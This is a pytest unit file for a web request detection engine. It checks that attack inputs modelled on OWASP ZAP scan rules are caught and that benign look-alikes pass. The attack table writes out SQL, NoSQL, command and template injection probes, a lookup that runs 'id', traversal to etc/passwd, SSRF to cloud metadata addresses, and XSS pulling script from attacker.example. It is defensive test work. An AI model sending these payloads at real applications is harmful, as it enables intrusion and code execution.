"""Unit: attack shapes first met in OWASP ZAP's active scan rules (split fresh5), and the benign hard cases each
new rule must let through. Every case goes through the whole engine (decoders, prefilter, analysers); the
values are built the way ZAP builds them (an original value, then the rule's suffix), with other values than
the corpus uses."""

from __future__ import annotations

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
QUERY = Context("query", "sort")
HOST = Context("header", "host")
REFERER = Context("header", "referer")



ATTACKS: dict[str, tuple[str, Context, str]] = {
    # SQL: timing probes of every dialect, wrapped however the rule wraps them
    "sqli_where_clause_after_quote": ("shoes' where 7 in (select sleep(3) ) -- ", BODY, "sqli"),
    "sqli_where_clause_after_double_quote": ('shoes" where 7 in (select sleep(3) ) and ""="', BODY, "sqli"),
    "sqli_waitfor_after_bare_word": ("shoes WAITFOR DELAY '0:0:3' -- ", BODY, "sqli"),
    "sqli_waitfor_after_closing_parens": ("shoes)) WAITFOR TIME '23:59:59' ((", BODY, "sqli"),
    "sqli_pg_sleep_in_case_after_quote": ("'case when cast(pg_sleep(3) as text) > '' then 1 else 0 end -- ", BODY,
                                          "sqli"),
    "sqli_pg_sleep_divided_into_string": ("x' / case when cast(pg_sleep(3) as text) > '' then 1 end / '", BODY, "sqli"),
    "sqli_oracle_session_sleep": ("shoes or exists (DBMS_SESSION.SLEEP(3)) -- ", BODY, "sqli"),
    "sqli_oracle_session_sleep_alone": ("(dbms_session.sleep(3))", BODY, "sqli"),
    "sqli_sqlite_randomblob_concatenated": ("x' || case randomblob(500000) when not null then '' end || '", BODY,
                                            "sqli"),
    "sqli_hsqldb_java_routine": ('9 / "java.lang.Thread.sleep"(3000)', BODY, "sqli"),
    "sqli_sort_direction_then_comment": ("created_at desc -- ", QUERY, "sqli"),
    "sqli_sort_direction_then_hash_comment": ("7 ASC #", QUERY, "sqli"),
    # commands
    "cmdi_powershell_help_probe": ("report.pdf';Get-Help", BODY, "cmdi"),
    "cmdi_powershell_sleep_then_comment": ('x";Start-Sleep -s 3 #', BODY, "cmdi"),
    # templates
    "ssti_single_brace_product": ("ab{1337*1337}ab", BODY, "ssti"),
    "ssti_dust_comment_product": ('"}ab{#12*12}ab', BODY, "ssti"),
    "ssti_dust_math_helper": ('{@math key="12" method="multiply" operand="12"/}', BODY, "ssti"),
    "ssti_django_add_filter_on_literal": ("{{ 1200|add:34 }}", BODY, "ssti"),
    "ssti_go_print_of_literals": ('{{print "12" "34"}}', BODY, "ssti"),
    # lookups, NoSQL, LDAP, traversal, prototype paths
    "jndi_commons_text_url_lookup": ("${url:UTF-8:https://attacker.example/x}", BODY, "jndi"),
    "jndi_commons_text_script_lookup": ("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", BODY, "jndi"),
    "nosqli_where_sleep_after_quote_and_paren": ('abc"); sleep(3); print("', BODY, "nosqli"),
    "nosqli_where_sleep_after_number": ("17; sleep(3)", BODY, "nosqli"),
    "nosqli_mapreduce_function_sleep": ("_id);}, function(x) { sleep(3); return 1;}, {out: 'y'});", BODY, "nosqli"),
    "ldapi_metacharacter_probe": ("=~=>=<=*(),|!<>+-", BODY, "ldapi"),
    "traversal_relative_passwd": ("etc/passwd", BODY, "traversal"),
    "traversal_relative_windows_ini": ("WINDOWS/system.ini", BODY, "traversal"),
    "proto_spring_class_loader_key": ("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                                      Context("body", "class.module", is_key=True), "proto"),
    "proto_spring_class_loader_bracket_key": ("class['classLoader'].URLs[0]", Context("query", "class", is_key=True),
                                              "proto"),
    # SSRF: out-of-band interaction hosts, cloud metadata in a routing header
    "ssrf_oob_interaction_host_in_referer": ("http://c7q1x.oastify.com/", REFERER, "ssrf"),
    "ssrf_oob_interaction_host_in_field": ("https://abcdef123.interact.sh/x", BODY, "ssrf"),
    "ssrf_metadata_address_as_host_header": ("169.254.169.254", HOST, "ssrf"),
    "ssrf_metadata_address_with_port_as_host": ("100.100.100.200:80", Context("header", "x-forwarded-host"), "ssrf"),
    # XSS: attribute breakouts
    "xss_quote_then_src_attribute": ("' src=//attacker.example/x.js", BODY, "xss"),
    "xss_leading_space_then_href_attribute": (" href=https://attacker.example/", BODY, "xss"),
    "xss_handler_at_value_start": ("onfocus=alert(document.domain)", BODY, "xss"),
}


@pytest.mark.parametrize(("value", "ctx", "rule"), ATTACKS.values(), ids=ATTACKS.keys())
def test_zap_shape_is_blocked(engine: Engine, value: str, ctx: Context, rule: str) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None and found.rule.attack == rule


BENIGN: dict[str, tuple[str, Context]] = {
    "select_with_quoted_option_in_prose": ("Ref 0042; select 'Bank transfer' at checkout", BODY),
    "where_after_quote_in_prose": ("We loved 'Arcadia' where it is always warm", BODY),
    "sort_direction_without_comment": ("created_at desc", QUERY),
    "sort_direction_with_prose_dash": ("Sort: name desc -- thanks Bob", BODY),
    "python_db_api_in_code_fence": ('```python\ncur.execute("SELECT id FROM t WHERE a = %s", (a,))\n```', BODY),
    "python_block_then_print": ('if name == "main":\n    print(run())', BODY),
    "bash_default_url": ("${url:-http://localhost:8080}", BODY),
    "shell_default_file": ("cat ${file:-notes.txt}", BODY),
    "brace_sum_in_text": ("Hello {name}, you owe {1+1} euros", BODY),
    "brace_page_range": ("see pages {10-12}", BODY),
    "django_filter_on_variable": ("{{ price|floatformat:2 }}", BODY),
    "go_printf_on_field": ('{{printf "%s" .Name}}', BODY),
    "hyphenated_word_after_semicolon": ("Kitchen; set-up included", BODY),
    "sleep_in_prose": ("Night shift; sleep(8h) is a must", BODY),
    "class_module_in_prose": ("Use the class.module attribute", BODY),
    "internal_host_header": ("10.0.0.5:8080", HOST),
    "request_bin_webhook": ("http://requestb.in/1234abcd", BODY),
    "src_attribute_in_snippet": ('<img src="https://cdn.example.com/a.png" alt="">', BODY),
    "punctuation_only_emoticons": (":-) ;-) (-: =)", BODY),
}


@pytest.mark.parametrize(("value", "ctx"), BENIGN.values(), ids=BENIGN.keys())
def test_benign_value_passes(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None
